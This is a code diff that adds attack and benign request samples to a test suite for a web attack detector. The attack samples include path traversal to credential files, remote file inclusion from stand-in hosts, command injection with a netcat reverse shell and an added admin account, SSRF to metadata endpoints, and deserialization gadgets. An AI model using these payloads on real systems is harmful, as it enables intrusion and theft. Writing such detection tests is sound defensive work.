@@ -132,6 +132,18 @@ const attacks: Record<Exclude<AttackClass, 'sqli' | 'xss' | 'other'>, Transactio
     tx('/load?name=../../../../../../boot.ini'),
     tx('/x?lang=zip://uploads/a.zip%23shell'),
     tx('/x?template=../../../../../../../../tmp/x'),
+    // absolute paths to sensitive files, no traversal
+    tx('/download?file=%2Froot%2F.ssh%2Fid_rsa'),
+    tx('/download?file=/home/ubuntu/.bash_history'),
+    tx('/download?file=/etc/shadow'),
+    tx('/download?file=/proc/self/environ'),
+    tx('/download?tep=C:%5CWindows%5Cwin.ini'),
+    tx('/download?doc=c:/boot.ini'),
+    tx('/api/file', { headers: json, body: JSON.stringify({ path: '/usr/local/tomcat/conf/tomcat-users.xml\u0000.jpg' }) }),
+    // dots that climb back into a sensitive file inside the path
+    tx('/dich-vu-cong/thu-tuc/templates/../../etc/passwd'),
+    // traversal in a content-negotiation header
+    tx('/', { headers: { 'Accept-Language': '../../../../etc/passwd' } }),
   ],
   rfi: [
     tx('/index.php?page=http://evil.example/shell.txt?'),
@@ -143,6 +155,11 @@ const attacks: Record<Exclude<AttackClass, 'sqli' | 'xss' | 'other'>, Transactio
     tx('/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8%2B'),
     tx('/index.php?mod=http://198.51.100.7/bot.txt?'),
     tx('/index.php?lang=hTTp://evil.example/lang.txt%3F'),
+    // UNC paths: include() on Windows opens them over SMB/WebDAV
+    tx('/index.php?page=%5C%5Cevil.example%5Cshare%5Cx.php'),
+    tx('/index.php?include=//evil.example/share/x.php'),
+    tx('/index.php?file=%5C%5C203.0.113.5@SSL%5Cc$%5Cshell.php'),
+    tx('/index.php', { headers: form, body: 'template=%5C%5Cevil.example%2Fwebdav%2Finc.txt%00.pdf' }),
   ],
   rce: [
     tx('/ping?host=127.0.0.1;id'),
@@ -163,6 +180,15 @@ const attacks: Record<Exclude<AttackClass, 'sqli' | 'xss' | 'other'>, Transactio
     tx('/ping?host=x;/usr/bin/id'),
     tx('/ping?host=a;nc%20-e%20/bin/sh%20203.0.113.5%204444'),
     tx('/ping?host=%7C%7C%20c:%5Cwindows%5Csystem32%5Ccmd.exe%20/c%20dir'),
+    // Windows commands after a separator
+    tx('/ping?host=127.0.0.1%20%26%20type%20C:%5CWindows%5Cwin.ini'),
+    tx('/ping?host=127.0.0.1%20%7C%20net%20user'),
+    tx('/ping?host=127.0.0.1%20%26%26%20dir%20C:%5C'),
+    tx('/ping?host=127.0.0.1;%20ipconfig%20/all'),
+    tx('/api/diag', { headers: json, body: JSON.stringify({ ip: '; net user admin1 P@ss123 /add' }) }),
+    tx('/convert?name=%24(net%20user)'),
+    tx('/ping?host=x|net%20localgroup%20administrators'),
+    tx('/ping?host=8.8.8.8%0D%0Adir%20c:%5Cinetpub%5Cwwwroot'),
   ],
   code: [
     tx('/index.php?x=<?php system($_GET["c"]); ?>'),
@@ -180,6 +206,12 @@ const attacks: Record<Exclude<AttackClass, 'sqli' | 'xss' | 'other'>, Transactio
     tx('/login?user=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil/a}'),
     tx('/', { headers: { Referer: '${jndi:dns://evil.example/r}' } }),
     tx('/hello?name=<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'),
+    // PHP complex interpolation: a call inside `${…}` / `{${…}}` runs
+    tx('/hello?name=%24%7B%40print(md5(1))%7D'),
+    tx('/hello?name=%24%7B%40eval(%24_GET%5Bx%5D)%7D'),
+    tx('/hello?name=%7B%24%7Bphpinfo()%7D%7D'),
+    tx("/hello?name=%7B%24%7Bsystem('id')%7D%7D"),
+    tx('/api', { headers: json, body: JSON.stringify({ ten: '"${print(md5(42))}"' }) }),
   ],
   ssrf: [
     tx('/fetch?url=http://127.0.0.1:8080/admin'),
@@ -198,6 +230,14 @@ const attacks: Record<Exclude<AttackClass, 'sqli' | 'xss' | 'other'>, Transactio
     tx('/fetch?url=http://[::ffff:7f00:1]/'),
     tx('/fetch?url=http://0.0.0.0:2375/containers/json'),
     tx('/fetch?url=http://172.17.0.1/'),
+    // other schemes a fetcher speaks, to internal hosts
+    tx('/fetch?url=ftp://127.0.0.1/x'),
+    tx('/fetch?url=ftp%3A%2F%2F10.1.2.3%2Fpub%2F'),
+    tx('/fetch?url=ldap://169.254.169.254/'),
+    tx('/fetch?url=tftp://[::1]/x'),
+    tx('/fetch?url=gopher://0x7f000001:6379/_x'),
+    tx('/fetch?url=dict://metadata.google.internal:80/'),
+    tx('/fetch?url=ftps://192.168.1.10:990/backup.tar'),
   ],
   xxe: [
     tx('/api/xml', { headers: xml, body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' }),
@@ -221,6 +261,10 @@ const attacks: Record<Exclude<AttackClass, 'sqli' | 'xss' | 'other'>, Transactio
     tx('/api', { headers: json, body: '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}' }),
     tx('/app', { headers: { Cookie: 'state=AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0' } }),
     tx('/api', { headers: json, body: '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}' }),
+    tx('/api', { headers: json, body: JSON.stringify({ hoTen: 'A', data: { '@class': 'ch.qos.logback.core.db.DriverManagerConnectionSource', url: "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'" } }) }),
+    tx('/api', { headers: json, body: '{"data":{"\\u0040class":"ch.qos.logback.core.db.JNDIConnectionSource","jndiLocation":"ldap://evil/a"}}' }),
+    tx('/api', { headers: json, body: JSON.stringify({ a: { '@type': 'com.sun.rowset.JdbcRowSetImpl', dataSourceName: 'ldap://evil/a', autoCommit: true } }) }),
+    tx('/app', { headers: { Cookie: 'remember_me=Tzo4OiJzdGRDbGFzcyI6MTp7czo1OiJhZG1pbiI7YjoxO30%3D' } }),
   ],
   webshell: [
     tx('/c99.php'),
@@ -251,6 +295,16 @@ const attacks: Record<Exclude<AttackClass, 'sqli' | 'xss' | 'other'>, Transactio
     tx('/', { headers: { 'User-Agent': 'Fuzz Faster U Fool v2.1.0 ffuf' } }),
     tx('/', { headers: { 'User-Agent': 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)' } }),
     tx('/backup.sql'),
+    tx('/', { headers: { 'User-Agent': 'Fuzz Faster U Fool v2.1.0-dev' } }),
+    tx('/', { headers: { 'User-Agent': 'feroxbuster/2.10.1' } }),
+    tx('/', { headers: { 'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0 Safari/537.36 Nuclei' } }),
+    tx('/nessus_is_probing_you_123456'),
+    tx('/acunetix-wvs-test-for-some-inexistent-file'),
+    tx('/phxkodjkua.nikto'),
+    tx('/tim-kiem?q=testasp.vulnweb.com'),
+    tx('/tim-kiem?url=http%3A%2F%2Fsome-inexistent-website.acu%2Fsome_inexistent_file_with_long_name%3F.jpg'),
+    tx('/?q=8ab3244e.cgbuz4kl2px9a19nee3d.oastify.com'),
+    tx('/', { headers: { 'X-Forwarded-For': 'c1a2b3.oast.fun' } }),
   ],
 };
 
@@ -315,6 +369,23 @@ const benign: Transaction[] = [
   tx('/tim-kiem?q=h%E1%BB%8Fi%3A+%22system(%22+l%C3%A0+g%C3%AC'),
   tx('/tim-kiem?q=b%E1%BB%99+h%E1%BB%93+s%C6%A1+1%3B+2%3B+3+%26+4&ip=127.0.0.1'),
   tx('/bao-cao?ky=Q3%2F2026&don-vi=S%E1%BB%9F+T%C6%B0+ph%C3%A1p+%2F+Ph%C3%B2ng+H%E1%BB%99+t%E1%BB%8Bch'),
+  // near misses of the gaps closed in November 2026
+  tx('/ho-so/nop', { headers: form, body: 'tieu_de=C%3A%5CUsers%5CLan%5CDocuments%5C%C4%90%C6%A1n+xin+c%E1%BA%A5p+ph%C3%A9p.docx&ghi_chu=B%E1%BA%A3n+g%E1%BB%91c+%E1%BB%9F+D%3A%5CHoSo%5C2026' }),
+  tx('/tai-lieu?file=C%3A%5CUsers%5CLan%5CDocuments%5Choso.pdf'),
+  tx('/tai-lieu?file=%5C%5Cfileserver%5Cshare%5Cbieu-mau.pdf'),
+  tx('/ho-so/nop', { headers: form, body: 'tai_lieu=%5C%5Cfileserver%5Cshare%5CB%C3%A1o+c%C3%A1o+2026.docx' }),
+  tx('/tai-lieu?path=/uploads/2026/huong-dan-web-config.pdf'),
+  tx('/tim-kiem?q=net+user'),
+  tx('/tim-kiem?q=l%E1%BB%87nh+net+user+l%C3%A0+g%C3%AC'),
+  tx('/tim-kiem?q=c%C3%A1ch+d%C3%B9ng+l%E1%BB%87nh+%22dir+C%3A%5C%22+trong+Windows'),
+  tx('/tim-kiem?q=ipconfig+%2Fall+kh%C3%B4ng+ch%E1%BA%A1y'),
+  tx('/gop-y', { headers: form, body: 'noi_dung=Mang+theo+CCCD+%26+h%E1%BB%99+chi%E1%BA%BFu%3B+type+A+ho%E1%BA%B7c+B%3B+net+user+guide+for+beginners' }),
+  tx('/api/mau-tin', { headers: json, body: JSON.stringify({ template: 'Xin chào ${hoTen}, hồ sơ ${maHoSo} đã ${trangThai(1)}' }) }),
+  tx('/share?url=ftp%3A%2F%2Fftp.dichvucong.gov.vn%2Fpub%2Fbieu-mau.pdf'),
+  tx('/share?url=ftp%3A%2F%2F203.113.1.5%2Fpub%2Fvan-ban.pdf'),
+  tx('/api/v1/ho-so', { headers: json, body: JSON.stringify({ '@class': 'vn.gov.dichvucong.HoSo', maHoSo: 'HS-2026-001' }) }),
+  tx('/', { headers: { 'Accept-Language': 'vi-VN,vi;q=0.9,en-US;q=0.8,en;q=0.7', Accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8' } }),
+  tx('/tim-kiem?q=%22delete+from%22+ngh%C4%A9a+l%C3%A0+g%C3%AC'),
 ];
 
 describe('other detectors: attack tables', () => {
